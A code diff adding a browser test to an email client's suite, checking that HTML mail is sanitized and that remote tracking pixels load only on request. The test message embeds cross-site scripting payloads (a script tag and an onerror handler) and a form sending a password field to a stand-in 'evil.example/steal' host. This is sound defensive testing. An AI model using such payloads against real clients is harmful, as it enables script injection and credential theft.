@@ -11,6 +11,8 @@ import { readMailbox, rfc822 } from '../support/mailbox.js';
 import { startWebHostProcess, type WebHostProcess } from '../support/web-host-process.js';
 import { InboxPage } from './pages/inbox-page.js';
 import { startOAuthContractServer, type OAuthContractServer } from '../contracts/oauth2/server.js';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 
 let servers: MailServers;
 let provider: OAuthContractServer;
@@ -160,6 +162,50 @@ describe('the inbox in a browser', () => {
     await tab.close();
     await page.getByText(`${seller} is signed in again.`).waitFor();
     await expect.poll(() => inbox.account(seller).getByTestId('account-status').textContent(), { timeout: 20_000 }).toContain('Up to date');
+  });
+
+  it('shows HTML mail formatted with its inline image, runs nothing in it, and loads remote images only when asked', async () => {
+    const { seller, buyer } = await mailboxes();
+    // A "tracking pixel" server: any request to it means the sender learns the mail was opened.
+    let pixelHits = 0;
+    const tracker = http.createServer((_req, res) => {
+      pixelHits += 1;
+      res.writeHead(200, { 'content-type': 'image/gif' });
+      res.end(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'));
+    });
+    await new Promise<void>((r) => tracker.listen(0, '127.0.0.1', () => r()));
+    const pixel = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}/open.gif`;
+    // A 2×1 PNG shown in place through cid:.
+    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAYAAAD0In+KAAAAEUlEQVR42mP8z8DwnwEIGAEAF/0C/0Fu1w4AAAAASUVORK5CYII=';
+    try {
+      await inbox.addEmailAccount(form(seller, 'shop-secret'));
+      await expect.poll(() => inbox.account(seller).getByTestId('account-status').textContent()).toContain('Up to date');
+      await servers.deliver(seller, [
+        `From: "Anna Schmidt" <${buyer}>`, `To: ${seller}`, 'Subject: Lieferung', 'Message-ID: <html-1@customer.example.test>',
+        'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="rel"', '',
+        '--rel', 'Content-Type: text/html; charset=utf-8', '',
+        `<p>Hallo, <b id="greeting">wo bleibt</b> meine Lieferung?</p><img id="photo" src="cid:box@anna"><img id="pixel" src="${pixel}">`,
+        '<script>document.body.innerHTML = "HACKED"</script><img src="x" onerror="document.body.innerHTML = \'HACKED\'">',
+        '<form action="https://evil.example/steal"><input name="pw"></form>',
+        '--rel', 'Content-Type: image/png', 'Content-ID: <box@anna>', 'Content-Transfer-Encoding: base64', '', png, '--rel--', '',
+      ].join('\r\n'));
+      await inbox.conversation('Anna Schmidt').click();
+      const frame = page.frameLocator('.thread .html-body iframe');
+      await frame.locator('#greeting').waitFor();
+      expect(await frame.locator('body').textContent()).toContain('wo bleibt meine Lieferung?');
+      expect(await frame.locator('body').textContent()).not.toContain('HACKED');
+      expect(await frame.locator('script, form, input, [onerror]').count()).toBe(0);
+      // The inline image is there (from the message itself); the tracking pixel was never requested.
+      await expect.poll(() => frame.locator('#photo').evaluate((img) => (img as unknown as { complete: boolean; naturalWidth: number }).naturalWidth)).toBe(2);
+      expect(pixelHits).toBe(0);
+      await inbox.thread().getByRole('button', { name: 'Load them' }).click();
+      await expect.poll(() => pixelHits).toBe(1);
+      // The plain-text version is one click away.
+      await inbox.thread().getByRole('button', { name: 'Show as plain text' }).click();
+      await inbox.thread().locator('.message .body', { hasText: 'wo bleibt meine Lieferung?' }).waitFor();
+    } finally {
+      tracker.close();
+    }
   });
 
   it('fills in a known provider and says which password it needs', async () => {
